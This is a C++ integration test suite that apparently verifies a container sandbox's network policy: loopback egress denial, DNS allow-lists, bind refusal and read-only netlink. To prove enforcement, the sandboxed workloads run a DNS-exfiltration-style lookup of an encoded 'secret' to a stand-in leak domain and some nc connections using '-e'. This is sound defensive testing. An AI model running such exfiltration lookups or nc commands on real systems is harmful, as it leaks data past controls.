// The sentry's network policy in real containers: egress to the host's
// loopback refused and audited, the container's own loopback and the
// default policy let through, binding the wildcard refused, NETLINK_ROUTE
// read-only.
#include <arpa/inet.h>
#include <gmock/gmock.h>
#include <gtest/gtest.h>
#include <netinet/in.h>
#include <sys/socket.h>
#include <unistd.h>

#include <cstdint>
#include <cstdlib>
#include <string>

#include "base/strings.h"
#include "base/unique_fd.h"
#include "tests/integration/sentry_fixture.h"

namespace vigil::integration {
namespace {

using ::testing::ContainsRegex;
using ::testing::HasSubstr;
using ::testing::Not;

// A listener on the host's 127.0.0.1 that counts the connections it gets.
class HostListener {
 public:
  HostListener() {
    fd_.Reset(::socket(AF_INET, SOCK_STREAM | SOCK_CLOEXEC | SOCK_NONBLOCK, 0));
    sockaddr_in in{.sin_family = AF_INET, .sin_port = 0, .sin_addr = {htonl(INADDR_LOOPBACK)}};
    ::bind(fd_.Get(), reinterpret_cast<sockaddr*>(&in), sizeof in);
    ::listen(fd_.Get(), 8);
    socklen_t size = sizeof in;
    ::getsockname(fd_.Get(), reinterpret_cast<sockaddr*>(&in), &size);
    port_ = ntohs(in.sin_port);
  }
  std::uint16_t port() const { return port_; }
  int Accepted() {
    while (int conn = ::accept4(fd_.Get(), nullptr, nullptr, SOCK_CLOEXEC)) {
      if (conn < 0) break;
      ::close(conn);
      ++accepted_;
    }
    return accepted_;
  }

 private:
  UniqueFd fd_;
  std::uint16_t port_ = 0;
  int accepted_ = 0;
};

class SentryNetworkTest : public SentryTest {
 protected:
  // `network`: the config's network namespace entry ("" for none: the
  // host's).
  void ExpectHostLoopbackRefused(const std::string& policy_annotation,
                                 const std::string& network = "");
};

void SentryNetworkTest::ExpectHostLoopbackRefused(const std::string& policy_annotation,
                                                  const std::string& network) {
  HostListener host;
  BundleConfig config;
  config.namespaces = {"pid", "ipc", "uts", "mount"};  // the host's network
  if (!network.empty()) config.namespaces.push_back(network);
  config.annotations_json = policy_annotation;
  config.args = {"sh", "-c",
                 StrCat("echo hi | nc -w 2 127.0.0.1 ", host.port(), "; echo status=$?")};
  auto [run, records] = RunAudited(config);
  ASSERT_TRUE(run.ok()) << run;
  EXPECT_THAT(run.out, HasSubstr("status=1"));
  EXPECT_THAT(run.err, HasSubstr("Network is unreachable"));
  EXPECT_EQ(host.Accepted(), 0);
  EXPECT_THAT(records,
              ContainsRegex(StrCat(R"("syscall":"connect","args":\{"address":"127\.0\.0\.1:)",
                                   host.port(), R"("\},"decision":"deny","errno":"ENETUNREACH")")));
}

TEST_P(SentryNetworkTest, AgentPolicyDeniesEgressToTheHostsLoopbackAndAuditsIt) {
  ExpectHostLoopbackRefused(R"({"dev.vigil.policy": "agent"})");
}

// Egress alone (no file rules) is enforced on either platform: the
// connect is decided on the copied address.
TEST_P(SentryNetworkTest, EgressPolicyDeniesTheHostsLoopbackAndAuditsIt) {
  ExpectHostLoopbackRefused(R"({"dev.vigil.policy": "{\"network\": {\"egress\": \"deny\"}}"})");
}

// An allow entry by DNS name: resolved at create ("localhost" from
// /etc/hosts), its addresses allowed on the entry's ports only, and the
// resolution in the audit.
TEST_P(SentryNetworkTest, AnAllowEntryByNameAllowsItsAddressesOnItsPorts) {
  HostListener allowed;
  HostListener other;
  BundleConfig config;
  config.namespaces = {"pid", "ipc", "uts", "mount"};  // the host's network
  config.annotations_json =
      StrCat(R"({"dev.vigil.policy": "{\"network\": {\"egress\": \"deny\", \"allow\": )",
             R"([{\"host\": \"localhost\", \"ports\": [)", allowed.port(), R"(]}]}}"})");
  config.args = {"sh", "-c",
                 // -e true: connect, run `true` on the socket, end.
                 StrCat("nc -w 2 127.0.0.1 ", allowed.port(), " -e true; echo allowed=$?; ",
                        "nc -w 2 127.0.0.1 ", other.port(), " -e true; echo other=$?")};
  auto [run, records] = RunAudited(config);
  ASSERT_TRUE(run.ok()) << run;
  EXPECT_THAT(run.out, HasSubstr("allowed=0"));
  EXPECT_THAT(run.out, HasSubstr("other=1"));
  EXPECT_EQ(allowed.Accepted(), 1);
  EXPECT_EQ(other.Accepted(), 0);
  EXPECT_THAT(records, ContainsRegex(R"("event":"resolve","args":\{"host":"localhost",)"
                                     R"("addresses":"[^"]*127\.0\.0\.1/32)"));
  // How the policy judges the host's loopback is in the audit (not on the
  // terminal of every run).
  EXPECT_THAT(records, ContainsRegex(R"("event":"supervisor","args":\{"level":"notice",)"
                                     R"("message":"the container shares the host's network)"));
  EXPECT_THAT(run.err, Not(HasSubstr("shares the host's network")));
}

// In the host's network namespace, create resolves the names: one that
// does not resolve fails create with one line naming the entry.
TEST_P(SentryNetworkTest, AnAllowEntryByANameThatDoesNotResolveFailsCreate) {
  BundleConfig config;
  config.namespaces = {"pid", "ipc", "uts", "mount"};  // the host's network
  config.annotations_json =
      R"({"dev.vigil.policy": "{\"network\": {\"egress\": \"deny\", \"allow\": )"
      R"([{\"host\": \"no-such-host.invalid\"}]}}"})";
  config.args = {"true"};
  const std::string id = NewId();
  WriteConfig(config);
  Outcome created = Create(id);
  EXPECT_NE(created.status, 0);
  EXPECT_TRUE(IsOneLine(created.err)) << created;
  EXPECT_THAT(
      created.err,
      HasSubstr(R"(policy.network.allow[0].host: "no-such-host.invalid" does not resolve)"));
  ExpectFailedCreateLeftNothing(id);
}

// With a network namespace of its own, the sandbox's names are its
// resolver's to answer (docs/policy.md, "Egress by name"): the workload's
// resolv.conf names it alone, keeping the image's search list; a name the
// policy does not allow is answered NXDOMAIN and recorded, and nothing is
// resolved at create (a name that does not resolve yet is no error).
TEST_P(SentryNetworkTest, WithItsOwnNetworkTheSandboxsResolverAnswersItsNames) {
  BundleConfig config;
  config.annotations_json =
      R"({"dev.vigil.policy": "{\"network\": {\"egress\": \"deny\", \"allow\": )"
      R"([{\"host\": \"no-such-host.invalid\", \"ports\": [443]}]}}"})";
  config.args = {"sh", "-c",
                 "cat /etc/resolv.conf; nslookup c2VjcmV0.leak.example >/dev/null 2>&1; "
                 "echo lookup=$?"};
  auto [run, records] = RunAudited(config);
  ASSERT_TRUE(run.ok()) << run;
  EXPECT_THAT(run.out, HasSubstr("nameserver 127.0.0.53\n"));
  EXPECT_THAT(run.out, Not(HasSubstr("nameserver 10.")));
  EXPECT_THAT(run.out, HasSubstr("lookup=1"));
  EXPECT_THAT(records, HasSubstr(R"("event":"dns","args":{"name":"c2vjcmv0.leak.example",)"
                                 R"("type":"A","answer":"NXDOMAIN"},"decision":"deny")"));
  EXPECT_THAT(records, Not(HasSubstr(R"("event":"resolve")")));
}

// Joined by path, the host's namespace is still the host's (docker run
// --network host, a hostNetwork pod): its loopback is judged as any
// address, never taken for the container's own.
TEST_P(SentryNetworkTest, AHostNamespaceJoinedByPathKeepsLoopbackRefused) {
  ExpectHostLoopbackRefused(R"({"dev.vigil.policy": "agent"})",
                            StrCat("network=/proc/", ::getpid(), "/ns/net"));
}

// A pod's namespace (one the pause container holds; here one `ip netns`
// made) joined by path is the pod's own: its loopback stays reachable.
TEST_P(SentryNetworkTest, APodNamespaceJoinedByPathKeepsItsOwnLoopback) {
  const std::string name = StrCat("vigil-pod-", ::getpid());
  ASSERT_EQ(
      std::system(StrCat("ip netns add ", name, " && ip -n ", name, " link set lo up").c_str()), 0);
  BundleConfig config;
  config.namespaces = {"pid", "ipc", "uts", "mount", StrCat("network=/run/netns/", name)};
  config.annotations_json = R"({"dev.vigil.policy": "agent"})";
  config.readonly_root = false;
  Outcome run = RunScript(config,
                          "mkdir /tmp/www && echo hello > /tmp/www/index.html || exit 1; "
                          "httpd -f -p 127.0.0.1:9000 -h /tmp/www & "
                          "for i in 1 2 3 4 5 6 7 8 9 10; do "
                          "wget -q -O - http://127.0.0.1:9000/index.html 2>/dev/null && break; "
                          "sleep 0.3; done; kill $!");
  (void)std::system(StrCat("ip netns del ", name).c_str());
  ASSERT_TRUE(run.ok()) << run;
  EXPECT_EQ(run.out, "hello\n");
}

// Two containers of one pod (one network namespace), each with its own
// resolver: the first takes 127.0.0.53, the second the next free address,
// and its resolv.conf says so; each answers its own container's queries.
TEST_P(SentryNetworkTest, APodsSecondContainerGetsAResolverOfItsOwn) {
  const std::string name = StrCat("vigil-pod-dns-", ::getpid());
  ASSERT_EQ(
      std::system(StrCat("ip netns add ", name, " && ip -n ", name, " link set lo up").c_str()), 0);
  BundleConfig config;
  config.namespaces = {"pid", "ipc", "uts", "mount", StrCat("network=/run/netns/", name)};
  config.annotations_json =
      R"({"dev.vigil.policy": "{\"network\": {\"egress\": \"deny\", \"allow\": )"
      R"([{\"host\": \"api.example.com\", \"ports\": [443]}]}}"})";
  config.args = {"sleep", "100"};
  WriteConfig(config);
  const std::string first = NewId();
  ASSERT_NO_FATAL_FAILURE(CreateAndStart(first));
  config.args = {"sh", "-c",
                 "grep nameserver /etc/resolv.conf; nslookup c2VjcmV0.leak.example >/dev/null "
                 "2>&1; echo lookup=$?"};
  auto [run, records] = RunAudited(config);
  (void)Runtime({"delete", "--force", first});
  (void)std::system(StrCat("ip netns del ", name).c_str());
  ASSERT_TRUE(run.ok()) << run;
  EXPECT_EQ(run.out, "nameserver 127.53.0.1\nlookup=1\n");
  EXPECT_THAT(records, HasSubstr(R"("event":"dns","args":{"name":"c2vjcmv0.leak.example",)"));
}

// --policy is the operator's: a bundle's annotation may repeat it, not
// replace it (a pod must not pick audit-only where the RuntimeClass said
// agent). Refused at create with one line, nothing left behind.
TEST_P(SentryNetworkTest, AnAnnotationCannotReplaceThePolicyFlag) {
  BundleConfig config;
  config.args = {"/bin/sh", "-c", "echo ran"};
  config.annotations_json = R"({"dev.vigil.policy": "audit-only"})";
  WriteConfig(config);
  const std::string id = NewId();
  Outcome created =
      Runtime({"--policy", "agent", "create", "--bundle", bundle_, "--pid-file", PidFile(id), id});
  EXPECT_NE(created.status, 0) << created;
  EXPECT_TRUE(IsOneLine(created.err)) << created.err;
  EXPECT_THAT(created.err, HasSubstr("annotation dev.vigil.policy: asks for policy \"audit-only\", "
                                     "but --policy chose \"agent\""));
  ExpectFailedCreateLeftNothing(id);

  config.annotations_json = R"({"dev.vigil.policy": "agent"})";
  WriteConfig(config);
  Outcome repeated = Runtime({"--policy", "agent", "run", "--bundle", bundle_, NewId()});
  EXPECT_TRUE(repeated.ok()) << repeated;
  EXPECT_EQ(repeated.out, "ran\n");
}

// A bind is decided like a destination: with no allow entry, not even the
// wildcard address may be bound (EACCES, the address is "protected"), and
// the refusal is audited. busybox httpd binds the IPv4 address it is given.
// In the host's network namespace an address is the host's: the
// allow-list decides who may serve on it.
TEST_P(SentryNetworkTest, InTheHostsNetworkEgressPolicyRefusesBindingTheWildcard) {
  BundleConfig config;
  config.namespaces = {"pid", "ipc", "uts", "mount"};
  config.annotations_json = R"({"dev.vigil.policy": "{\"network\": {\"egress\": \"deny\"}}"})";
  // Bound, it would serve until killed (status=137).
  config.args = {"sh", "-c", "timeout -s KILL 3 httpd -f -p 0.0.0.0:9000; echo status=$?"};
  auto [run, records] = RunAudited(config);
  ASSERT_TRUE(run.ok()) << run;
  EXPECT_THAT(run.out, HasSubstr("status=1"));
  EXPECT_THAT(run.err, HasSubstr("bind: Permission denied"));
  EXPECT_THAT(records, HasSubstr(R"("syscall":"bind","args":{"address":"0.0.0.0:9000"},)"
                                 R"("decision":"deny","errno":"EACCES")"));
}

// In a network namespace of its own every address is the container's: a
// server binds the wildcard under a deny-all policy (uvicorn --host
// 0.0.0.0), and the bind is audited.
TEST_P(SentryNetworkTest, InItsOwnNetworkAServerBindsTheWildcard) {
  BundleConfig config;
  config.annotations_json = R"({"dev.vigil.policy": "{\"network\": {\"egress\": \"deny\"}}"})";
  config.args = {"sh", "-c", "timeout -s KILL 1 httpd -f -p 0.0.0.0:9000; echo status=$?"};
  auto [run, records] = RunAudited(config);
  ASSERT_TRUE(run.ok()) << run;
  EXPECT_THAT(run.out, HasSubstr("status=137"));
  EXPECT_THAT(records, HasSubstr(R"("syscall":"bind","args":{"address":"0.0.0.0:9000"},)"
                                 R"("decision":"allow")"));
}

TEST_P(SentryNetworkTest, DefaultPolicyLetsConnectsThrough) {
  HostListener host;
  BundleConfig config;
  config.namespaces = {"pid", "ipc", "uts", "mount"};
  // The listener never answers: nc is stopped once it has connected.
  config.args = {"sh", "-c", StrCat("timeout -s KILL 2 nc 127.0.0.1 ", host.port(), "; true")};
  Outcome run = RunWith(config);
  ASSERT_TRUE(run.ok()) << run;
  EXPECT_TRUE(Eventually([&] { return host.Accepted() == 1; }));
}

// With its own network namespace the container's loopback is its own, and
// the agent profile leaves it alone: a server bound to 127.0.0.1 is
// reached, and one on the wildcard (busybox nc listens on ::) listens
// until killed.
TEST_P(SentryNetworkTest, AgentPolicyKeepsTheContainersOwnLoopback) {
  BundleConfig config;
  config.annotations_json = R"({"dev.vigil.policy": "agent"})";
  config.readonly_root = false;
  Grant(config, "CAP_NET_ADMIN");  // to bring lo up
  Outcome run = RunScript(config,
                          "ip link set lo up && mkdir /tmp/www && echo hello > /tmp/www/index.html "
                          "|| exit 1; "
                          "timeout -s KILL 1 nc -l -p 9001 2>/dev/null; echo nc=$?; "
                          "httpd -f -p 127.0.0.1:9000 -h /tmp/www & "
                          "for i in 1 2 3 4 5 6 7 8 9 10; do "
                          "wget -q -O - http://127.0.0.1:9000/index.html 2>/dev/null && break; "
                          "sleep 0.3; done; kill $!");
  ASSERT_TRUE(run.ok()) << run;
  EXPECT_EQ(run.out, "nc=137\nhello\n");
}

// NETLINK_ROUTE is read-only whatever the container holds: a dump works,
// changes are refused. busybox ip sends to an explicit address (which the
// kernel checks against the sender alone): the sentry sends without it, so
// the socket's opener (the sentry, without CAP_NET_ADMIN) counts. Without
// the sentry, CAP_NET_ADMIN would add the address and the route. (busybox
// `ip link set` uses the legacy ioctls, which are not mediated.)
TEST_P(SentryNetworkTest, NetlinkRouteIsReadOnlyEvenWithCapNetAdmin) {
  BundleConfig config;
  Grant(config, "CAP_NET_ADMIN");
  Outcome run = RunScript(config,
                          "ip -o link show lo | grep -c 'lo:'; "
                          "ip addr add 10.9.9.9/32 dev lo 2>&1; "
                          "ip route add 192.0.2.0/24 dev lo 2>&1; "
                          "ip -o addr show lo | grep -c 10.9.9.9; true");
  ASSERT_TRUE(run.ok()) << run;
  EXPECT_EQ(run.out,
            "1\nip: RTNETLINK answers: Operation not permitted\n"
            "ip: RTNETLINK answers: Operation not permitted\n0\n")
      << run;
}

// The agent profile's container: root read-only, /tmp and the working
// directory writable but not executable, setuid without effect.

INSTANTIATE_TEST_SUITE_P(Runtimes, SentryNetworkTest, ::testing::ValuesIn(SentryRuntimes()),
                         RuntimeName);

}  // namespace
}  // namespace vigil::integration
